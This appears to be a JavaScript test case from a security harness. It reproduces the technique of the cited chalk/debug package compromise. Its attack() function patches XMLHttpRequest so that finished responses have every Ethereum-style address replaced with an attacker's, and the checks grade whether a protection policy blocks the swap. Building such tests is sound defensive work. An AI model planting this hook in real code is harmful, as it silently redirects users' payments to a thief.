// A02: a patched XMLHttpRequest.prototype.send redefines responseText and response on the instance.
import { names } from './logs.mjs';

export default {
  id: 'A02',
  title: 'XHR send patched, response properties redefined on the instance',
  source: 'chalk/debug, 8 September 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  attack(a) {
    const { open, send } = XMLHttpRequest.prototype;
    XMLHttpRequest.prototype.open = function (...args) {
      this.asked = args[1];
      return open.apply(this, args);
    };
    XMLHttpRequest.prototype.send = function (...args) {
      const saved = this.onreadystatechange;
      this.onreadystatechange = function (...event) {
        if (this.readyState === 4) {
          try {
            const body = this.responseText.replace(/\b0x[a-fA-F0-9]{40}\b/g, a.EVIL);
            Object.defineProperty(this, 'responseText', { value: body });
            Object.defineProperty(this, 'response', { value: body });
          } catch {
            // As the payload: a responseType that forbids responseText is left alone.
          }
        }
        if (saved) saved.apply(this, event);
      };
      return send.apply(this, args);
    };
  },

  async action() {
    return new Promise((resolve, reject) => {
      const xhr = new XMLHttpRequest();
      xhr.onreadystatechange = () => {
        if (xhr.readyState === 4) resolve({ text: xhr.responseText, response: xhr.response });
      };
      xhr.onerror = () => reject(new Error('xhr error'));
      xhr.open('GET', '/api/deposit');
      xhr.send();
    });
  },

  stolen: ({ result, a }) => names(result, a.EVIL),
  arrived: ({ result, a }) => names(result, a.GOOD) && !names(result, a.EVIL),
  violation: { surface: 'xhr', grade: 'tamper' },
};
